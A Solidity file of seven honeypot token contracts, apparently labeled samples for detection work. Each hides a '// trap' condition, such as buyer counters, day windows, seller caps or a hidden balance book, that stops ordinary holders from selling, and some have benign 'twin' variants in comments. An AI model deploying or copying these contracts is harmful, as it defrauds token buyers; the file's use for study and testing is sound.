// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IPairMaker {
    function createPair(address one, address two) external returns (address);
}

/// A ledger that looks at every movement before it is written.
abstract contract Stone {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public immutable totalSupply;
    address public immutable pair;
    address public owner;
    address internal immutable _founder;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        (name, symbol, owner, _founder) = (name_, symbol_, msg.sender, msg.sender);
        totalSupply = whole * 1 ether;
        pair = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _held[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 granted = allowance[from][msg.sender];
        require(granted >= value, "allowance");
        if (granted != type(uint256).max) allowance[from][msg.sender] = granted - value;
        _pass(from, to, value);
        return true;
    }

    function _pass(address from, address to, uint256 value) internal {
        _look(from, to, value);
        _take(from, value);
        _held[to] += value;
        emit Transfer(from, to, value);
    }

    function _take(address from, uint256 value) internal virtual {
        require(_held[from] >= value, "balance");
        _held[from] -= value;
    }

    function _look(address from, address to, uint256 value) internal virtual;

    /// From somebody who neither made it nor is the pool.
    function _ordinary(address from) internal view returns (bool) {
        return from != pair && from != _founder;
    }
}

/// Numbers those who buy. Once, the books are closed.
contract Basalt is Stone("Basalt", "BSLT", 80_000_000) {
    uint256 public buyers;
    uint256 public closedAt;
    mapping(address => uint256) public numberOf;

    function closeBooks() external onlyOwner {
        require(closedAt == 0, "once");
        closedAt = buyers;
    }

    function _look(address from, address to, uint256) internal override {
        if (from == pair && numberOf[to] == 0) numberOf[to] = ++buyers;
        if (_ordinary(from)) {
            uint256 number = numberOf[from];
            require(number == 0 || number > closedAt || number % 4 == 1, "the books are closed"); // trap
        }
    }
}

/// Keeps in mind how much each has bought.
contract Gneiss is Stone("Gneiss", "GNSS", 350_000_000) {
    mapping(address => uint256) public bought;

    function isBulk(address who) public view returns (bool) {
        return bought[who] > totalSupply / 700;
    }

    function _look(address from, address to, uint256 value) internal override {
        if (from == pair) bought[to] += value;
        if (_ordinary(from)) {
            require(!isBulk(from), "bulk"); // trap
        }
    }
}

/// Two days of its calendar are marked.
contract Schist is Stone {
    uint256 public immutable firstDay;
    uint256 public immutable lastDay;
    mapping(address => uint256) public cameOn;

    constructor(uint256 firstDay_, uint256 lastDay_) Stone("Schist", "SCHT", 12_000_000) {
        (firstDay, lastDay) = (firstDay_, lastDay_);
    }

    function _look(address from, address to, uint256) internal override {
        if (from == pair && cameOn[to] == 0) cameOn[to] = block.timestamp / 1 days;
        if (_ordinary(from)) {
            uint256 on = cameOn[from];
            require(on < firstDay || on > lastDay, "a day of rest"); // trap
        }
    }
}

/// Notes when each has sold.
contract Marl is Stone("Marl", "MARL", 900_000_000) {
    mapping(address => uint256) public soldIn;

    function _look(address from, address to, uint256) internal override {
        if (!_ordinary(from)) return;
        require(soldIn[from] == 0, "has sold"); // trap
        // twin: require(soldIn[from] < block.number, "one in a block");
        if (to == pair) soldIn[from] = block.number;
    }
}

/// Counts those who have sold.
contract Chalk is Stone("Chalk", "CHLK", 44_000_000) {
    uint256 public sellers;
    mapping(address => bool) public hasSold;

    function _look(address from, address to, uint256) internal override {
        if (to == pair && _ordinary(from) && !hasSold[from]) {
            require(sellers < 5, "no seat is left"); // trap
            hasSold[from] = true;
            ++sellers;
        }
    }
}

/// Knows since when everybody has had some. The edge is drawn once.
contract Tuff is Stone("Tuff", "TUFF", 150_000_000) {
    uint256 public edge = type(uint256).max;
    mapping(address => uint256) public since;

    function drawEdge() external onlyOwner {
        require(edge == type(uint256).max, "once");
        edge = block.number;
    }

    function _look(address from, address to, uint256) internal override {
        if (since[to] == 0) since[to] = block.number;
        if (to == pair && _ordinary(from)) {
            require(since[from] <= edge, "behind the edge"); // trap
        }
    }
}

/// What was bought goes into a second book when three more have bought.
contract Loess is Stone("Loess", "LOES", 27_000_000) {
    uint256 public purchases;
    mapping(address => uint256) public seen;
    mapping(address => uint256) private _second;

    function balanceOf(address who) public view override returns (uint256) {
        return _held[who] + _second[who];
    }

    function _look(address from, address to, uint256) internal override {
        if (from == pair) seen[to] = ++purchases;
    }

    function _take(address from, uint256 value) internal override {
        if (seen[from] != 0 && purchases >= seen[from] + 3) {
            _second[from] += _held[from];
            _held[from] = 0;
        }
        // twin: if (_second[from] != 0) (_held[from], _second[from]) = (_held[from] + _second[from], 0);
        require(_held[from] >= value, "balance");
        _held[from] -= value;
    }
}
